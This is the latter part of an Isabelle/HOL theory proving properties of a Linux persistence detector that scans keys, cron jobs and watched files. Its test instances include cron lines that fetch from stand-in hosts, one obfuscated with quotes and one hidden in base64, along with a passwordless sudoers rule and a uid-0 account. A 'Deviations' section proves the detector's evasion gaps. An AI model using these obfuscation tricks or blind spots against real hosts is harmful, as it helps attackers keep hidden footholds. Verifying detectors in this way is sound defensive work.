     \<not> EvalCronLine l \<or> learning_for cfg s \<or> ev_Confidence (cron_event h now cfg pack v s f l) < cfg_MinConfidenceAlert cfg"
  by (simp_all add: cron_event_def Let_def zero_Event_def NormalizeDedup_def)

lemma cron_event_ok: "finding_ok h pack v persistence_rules (cron_event h now cfg pack v s f l)"
  unfolding cron_event_def Let_def
  by (rule finding_okI)
    (auto simp: zero_Event_def persistence_rules_def cron_signals_def Let_def split_beta Score_le_100 min.coboundedI2)

lemma look_key_ok: "look_key h pk now cfg pack v H s u nl = Some e \<Longrightarrow> finding_ok h pack v persistence_rules e"
  by (auto simp: look_key_def key_event_def Let_def zero_Event_def persistence_rules_def Score_le_100
      intro!: finding_okI split: prod.splits option.splits if_splits)

interpretation persistence: reporter h pack agentVer "\<lambda>(H, s). persistence_Scan h parseKey now cfg pack agentVer H s" persistence_rules
  for h pack agentVer parseKey now cfg
proof
  fix e i assume "e \<in> set (case i of (H, s) \<Rightarrow> persistence_Scan h parseKey now cfg pack agentVer H s)"
  then obtain H s where e: "e \<in> set (persistence_Scan h parseKey now cfg pack agentVer H s)" by (cases i) auto
  have f: "set file_rules \<subseteq> set persistence_rules" "set [RuleKmodNew] \<subseteq> set persistence_rules" by (auto simp: persistence_rules_def)
  consider (keys) "e \<in> set (scanAuthorizedKeys h parseKey now cfg pack agentVer H s)"
    | (cron) "e \<in> set (scanCron h now cfg pack agentVer H s)" | (files) "e \<in> set (file_scans h now cfg pack agentVer H s)"
    using e by (auto simp: Scan_parts)
  then show "finding_ok h pack agentVer persistence_rules e"
  proof cases
    case keys
    then show ?thesis
      by (auto simp: scanAuthorizedKeys_def map_filter_Some dest: look_key_ok split: if_splits option.splits)
  next
    case cron
    then show ?thesis by (auto simp: scanCron_def cron_event_ok)
  next
    case files
    then show ?thesis using file_scans_ok f finding_ok_mono by blast
  qed
qed

section \<open>Correctness\<close>

definition snapshot_ok :: "Snapshot \<Rightarrow> bool" where
  "snapshot_ok s \<longleftrightarrow> sn_AuthKeys s \<noteq> None \<and> sn_CronLines s \<noteq> None \<and> sn_PersistenceFiles s \<noteq> None"

lemma LoadBaseline_ok: "LoadBaseline unm f = Some s \<Longrightarrow> snapshot_ok s"
  by (auto simp: LoadBaseline_def EmptySnapshot_def make_if_nil_def snapshot_ok_def split: file_state.splits option.splits)

lemma no_new_modules: "new_modules H (commit_persistence h pk t H s) = []"
  by (simp add: new_modules_def commit_fields)

lemma commit_quiet:
  assumes "snapshot_ok s"
    and "e \<in> set (persistence_Scan h parseKey now cfg pack agentVer H (commit_persistence h parseKey t H s))"
  shows "\<not> states_change e"
proof -
  let ?s = "commit_persistence h parseKey t H s"
  have s: "sn_AuthKeys s \<noteq> None" "sn_CronLines s \<noteq> None" "sn_PersistenceFiles s \<noteq> None"
    using assms(1) by (simp_all add: snapshot_ok_def)
  consider (keys) "e \<in> set (scanAuthorizedKeys h parseKey now cfg pack agentVer H ?s)"
    | (files) "e \<in> set (file_scans h now cfg pack agentVer H ?s)"
    using assms(2) scanCron_quiet [OF s(2)] by (auto simp: Scan_parts)
  then show ?thesis
  proof cases
    case keys
    show ?thesis using scanAuthorizedKeys_quiet [OF s(1) keys]
      by (simp add: states_change_def rule_names change_marks_def)
  next
    case files
    have "set (ev_Signals e) \<inter> set change_marks = {}"
      using file_scans.quiet [OF commit_covers [OF s(3) watched_recorded] files] .
    moreover have "ev_RuleID e \<in> set file_rules"
      using file_scans_ok [OF files] no_new_modules by (auto simp: finding_ok_def)
    ultimately show ?thesis by (auto simp: states_change_def file_rules_def rule_names)
  qed
qed

text \<open>
  Committing a baseline silences the persistence detectors: when the host is as it was when the
  baseline was committed, no event of a scan claims a change, neither a new key nor a new cron line
  nor a new kernel module nor a changed file, whatever the snapshot held before.
\<close>

theorem commit_then_quiet:
  assumes "LoadBaseline unmarshal file = Some s"
    and "e \<in> set (persistence_Scan h parseKey now cfg pack agentVer H (commit_persistence h parseKey t H s))"
  shows "\<not> states_change e"
  by (rule commit_quiet [OF LoadBaseline_ok [OF assms(1)] assms(2)])

text \<open>
  C14. A changed file is reported: after a commit, a scan of the host in any later state reports every
  watched file that can be read and whose hash is not the one the baseline holds for it, as a change,
  with its path and its new hash. The baseline holds what the commit saw of the file, or else what it
  held before.
\<close>

theorem change_reported:
  assumes "LoadBaseline unmarshal file = Some s"
    and "p \<in> set (watched_files H')" "fileSHA h H' p \<noteq> []"
    and "(if p \<in> set (recorded_files H) \<and> fileSHA h H p \<noteq> [] then Some (fileSHA h H p) else known_file s p) \<noteq> Some (fileSHA h H' p)"
  shows "\<exists>e \<in> set (persistence_Scan h parseKey now cfg pack agentVer H' (commit_persistence h parseKey t H s)).
    reports_change h H' change_marks p e"
proof -
  have "sn_PersistenceFiles s \<noteq> None" using LoadBaseline_ok [OF assms(1)] by (simp add: snapshot_ok_def)
  then have "known_file (commit_persistence h parseKey t H s) p \<noteq> Some (fileSHA h H' p)"
    using assms(4) by (simp add: commit_known)
  from file_scans.detects [OF assms(2,3) this, of now cfg pack agentVer]
  show ?thesis by (auto simp: Scan_parts)
qed

text \<open>
  A new cron line is reported, and as an alert exactly when it is risky: after a commit, a scan of
  the host in any later state reports every cron line whose fingerprint the baseline does not hold. The
  report is learning-only exactly when the line has no risky token, in its text or in its decoded
  payloads, or the agent is in learning mode, or the score is below the alert threshold.
\<close>

theorem cron_line_reported:
  assumes "LoadBaseline unmarshal file = Some s" "t \<noteq> 0"
    and "f \<in> set (collectCronTargets H')" "hs_read H' f = Some b" "l \<in> set (cron_lines b)"
    and "cronLineFingerprint h f l \<notin> set (case cron_prints h H f of
        Some fps \<Rightarrow> if f \<in> set (collectCronTargets H) then fps else known_lines (sn_CronLines s) f
      | None \<Rightarrow> known_lines (sn_CronLines s) f)"
  shows "\<exists>e \<in> set (persistence_Scan h parseKey now cfg pack agentVer H' (commit_persistence h parseKey t H s)).
    ev_RuleID e = RuleCronHighRisk \<and> ent_Path (ev_Entity e) = f \<and> ent_ID (ev_Entity e) = cronLineFingerprint h f l \<and>
    (ev_LearningOnly e \<longleftrightarrow> \<not> EvalCronLine l \<or> cfg_LearningMode cfg \<or> ev_Confidence e < cfg_MinConfidenceAlert cfg)"
proof -
  let ?s = "commit_persistence h parseKey t H s"
  let ?e = "cron_event h now cfg pack agentVer ?s f l"
  have s: "sn_CronLines s \<noteq> None" using LoadBaseline_ok [OF assms(1)] by (simp add: snapshot_ok_def)
  have "cronLineFingerprint h f l \<notin> set (known_lines (sn_CronLines ?s) f)"
    using assms(6) s by (auto simp: commit_fields known_record_all split: option.splits)
  then have "?e \<in> set (scanCron h now cfg pack agentVer H' ?s)"
    using assms(3-5) by (auto simp: scanCron_def new_cron_lines_def intro!: image_eqI)
  moreover have "learning_for cfg ?s = cfg_LearningMode cfg"
    using assms(2) by (simp add: learning_for_def IsCommitted_def commit_fields)
  ultimately show ?thesis
    by (intro bexI [of _ ?e]) (auto simp: Scan_parts cron_event_fields)
qed

subsection \<open>Instances\<close>

text \<open>A host with one account besides root that has uid 0, and the same text in two watched files.\<close>

definition sample_host :: "string \<Rightarrow> host" where
  "sample_host b =
     \<lparr>hs_read = (\<lambda>p. if p = ''/etc/sudoers'' \<or> p = ''/etc/crontab'' then Some b else None),
      hs_stat = (\<lambda>p. if p = ''/etc/sudoers'' \<or> p = ''/etc/crontab''
         then Some \<lparr>fi_IsDir = False, fi_Perm = 0, fi_SetUID = False, fi_SetGID = False, fi_UID = 0, fi_Size = 0, fi_ModTime = 0\<rparr> else None),
      hs_info = (\<lambda>p. None), hs_readdir = (\<lambda>d. None), hs_walk = (\<lambda>d. []), hs_glob = (\<lambda>g. []), hs_links = (\<lambda>p. None),
      hs_run = (\<lambda>c. if c = [''getent'', ''passwd''] then Some ''toor:x:0:0::/root:/bin/sh'' else None),
      hs_output = (\<lambda>c. []), hs_caps = (\<lambda>p. []), hs_user = None\<rparr>"

definition sample_snapshot :: Snapshot where
  "sample_snapshot = commit_persistence (\<lambda>s. ''h'' @ s) (\<lambda>l. None) 5 (sample_host ''root ALL=(ALL) ALL'') EmptySnapshot"

definition sample_toor :: passwdEntry where
  "sample_toor = \<lparr>pw_name = ''toor'', pw_dir = ''/root'', pw_shell = ''/bin/sh'', pw_uid = ''0''\<rparr>"

definition no_rules :: Pack where "no_rules = \<lparr>pack_Version = ''1'', pack_Rules = []\<rparr>"

lemma sample_users: "passwdUsers (sample_host b) = [sample_toor]"
  by (simp add: passwdUsers_def sample_host_def sample_toor_def passwd_line_def map_filter_def)

lemma Load_missing: "LoadBaseline unm Missing = Some EmptySnapshot"
  by (simp add: LoadBaseline_def)

lemma sample_sudoers_watched:
  "''/etc/sudoers'' \<in> set (watched_files (sample_host b))" "''/etc/sudoers'' \<in> set (recorded_files (sample_host b))"
  by (simp_all add: watched_files_def recorded_files_def collectSudoersTargets_def sudoersTargets_def exists_on_def sample_host_def)

lemma sample_sudoers_hash: "fileSHA (\<lambda>s. ''h'' @ s) (sample_host b) ''/etc/sudoers'' = CHR ''h'' # b"
  by (simp add: fileSHA_def sample_host_def)

theorem commit_then_quiet_witness:
  "\<not> states_change (uid_zero_event (\<lambda>s. ''h'' @ s) 9 no_rules ''1'' sample_toor)"
proof (rule commit_then_quiet [OF Load_missing])
  show "uid_zero_event (\<lambda>s. ''h'' @ s) 9 no_rules ''1'' sample_toor \<in> set (persistence_Scan (\<lambda>s. ''h'' @ s) (\<lambda>l. None) 9 Default no_rules ''1''
      (sample_host []) (commit_persistence (\<lambda>s. ''h'' @ s) (\<lambda>l. None) 5 (sample_host []) EmptySnapshot))"
    by (simp add: persistence_Scan_def scanUsers_def detectUIDZero_def sample_users) (simp add: sample_toor_def)
qed

theorem change_reported_witness:
  "list_ex (reports_change (\<lambda>s. ''h'' @ s) (sample_host ''bob ALL=(ALL) NOPASSWD: ALL'') change_marks ''/etc/sudoers'')
    (persistence_Scan (\<lambda>s. ''h'' @ s) (\<lambda>l. None) 9 Default no_rules ''1'' (sample_host ''bob ALL=(ALL) NOPASSWD: ALL'') sample_snapshot)"
  unfolding list_ex_iff sample_snapshot_def
  by (rule change_reported [OF Load_missing sample_sudoers_watched(1)])
    (simp_all add: sample_sudoers_hash sample_sudoers_watched)

definition sample_job :: string where
  "sample_job = ''* * * * * root /usr/bin/Cu'' @ [CHR 0x22, CHR 0x22] @ ''rl evil.example''"

lemma sample_job_risky: "EvalCronLine sample_job"
  by code_simp

lemmas line_simps = cron_lines_def raw_lines_def cron_limit_def drop_cr_def TrimSpace_def is_space_def

lemma sample_cron_lines: "cron_lines sample_job = [sample_job]" "cron_lines ''root ALL=(ALL) ALL'' = [''root ALL=(ALL) ALL'']"
  by (simp_all add: line_simps sample_job_def)

lemma sample_cron: "''/etc/crontab'' \<in> set (collectCronTargets (sample_host b))"
  "cron_prints h (sample_host ''root ALL=(ALL) ALL'') ''/etc/crontab'' =
     Some [cronLineFingerprint h ''/etc/crontab'' ''root ALL=(ALL) ALL'']"
  by (simp_all add: collectCronTargets_def standaloneCronFiles_def cron_prints_def sample_cron_lines sample_host_def)

theorem cron_line_reported_witness:
  "list_ex (\<lambda>e. ev_RuleID e = RuleCronHighRisk \<and> ent_Path (ev_Entity e) = ''/etc/crontab'')
    (persistence_Scan (\<lambda>s. ''h'' @ s) (\<lambda>l. None) 9 Default no_rules ''1'' (sample_host sample_job) sample_snapshot)"
proof -
  have "\<exists>e \<in> set (persistence_Scan (\<lambda>s. ''h'' @ s) (\<lambda>l. None) 9 Default no_rules ''1'' (sample_host sample_job) sample_snapshot).
      ev_RuleID e = RuleCronHighRisk \<and> ent_Path (ev_Entity e) = ''/etc/crontab'' \<and>
      ent_ID (ev_Entity e) = cronLineFingerprint (\<lambda>s. ''h'' @ s) ''/etc/crontab'' sample_job \<and>
      (ev_LearningOnly e \<longleftrightarrow> \<not> EvalCronLine sample_job \<or> cfg_LearningMode Default \<or> ev_Confidence e < cfg_MinConfidenceAlert Default)"
    unfolding sample_snapshot_def
    by (rule cron_line_reported [OF Load_missing, where b = sample_job])
      (simp_all add: sample_cron sample_cron_lines, simp_all add: sample_host_def cronLineFingerprint_def sample_job_def)
  then show ?thesis by (auto simp: list_ex_iff)
qed

section \<open>Deviations\<close>

text \<open>
  The line is lower-cased before its base64 payloads are decoded, which destroys them: a download
  hidden in base64 is not seen, although the decoder finds it in the line as it is written.
\<close>

definition hidden_job :: string where "hidden_job = ''@daily echo Y3VybCBodHRwOi8vZXZpbC5zaC94''"

lemma base64_payload_missed:
  "Contains (recursiveBase64Decode 3 hidden_job) ''curl http://evil.sh/x'' \<and> \<not> EvalCronLine hidden_job"
  by code_simp

text \<open>The text that is searched is lower case, so a token with an upper-case letter never matches.\<close>

lemma join_continued_set: "set (join_continued s) \<subseteq> insert (CHR '' '') (set s)"
  by (induction s rule: join_continued.induct) auto

lemma decode_lower:
  "\<forall>c \<in> set s. lower_char c = c \<Longrightarrow> \<forall>c \<in> set (recursiveBase64Decode d s). lower_char c = c"
proof (induction d arbitrary: s)
  case (Suc d)
  have sp: "lower_char (CHR '' '') = CHR '' ''" by (simp add: lower_char_def is_upper_def)
  have "lower_char c = c" if "c \<in> set (recursiveBase64Decode d (ToLower ds))" for ds c
    using Suc.IH [of "ToLower ds"] that by (auto simp: ToLower_def)
  then show ?case using Suc.prems sp by (auto split: option.splits if_splits)
qed simp

lemma normalized_lower: "c \<in> set (normalizeCronLine l) \<Longrightarrow> lower_char c = c"
proof -
  assume c: "c \<in> set (normalizeCronLine l)"
  have sp: "lower_char (CHR '' '') = CHR '' ''" by (simp add: lower_char_def is_upper_def)
  let ?s = "join_continued (filter (\<lambda>c. \<not> is_quote c) (ToLower l))"
  have "\<forall>c \<in> set ?s. lower_char c = c"
    using join_continued_set [of "filter (\<lambda>c. \<not> is_quote c) (ToLower l)"] sp by (auto simp: ToLower_def)
  from decode_lower [OF this, of 3] show ?thesis using c sp by (auto simp: normalizeCronLine_def)
qed

lemma upper_case_token_dead: "\<not> Contains (normalizeCronLine l) ''iptables -I''"
proof
  assume "Contains (normalizeCronLine l) ''iptables -I''"
  then have "CHR ''I'' \<in> set (normalizeCronLine l)" by (auto simp: Contains_iff)
  from normalized_lower [OF this] show False by (simp add: lower_char_def is_upper_def char_of_def bit_0)
qed

text \<open>Account numbers are compared as text: 999 is not below 1000.\<close>

lemma account_ids_as_text: "\<not> str_less ''999'' ''1000'' \<and> str_less ''1'' ''1000''"
  by code_simp

end
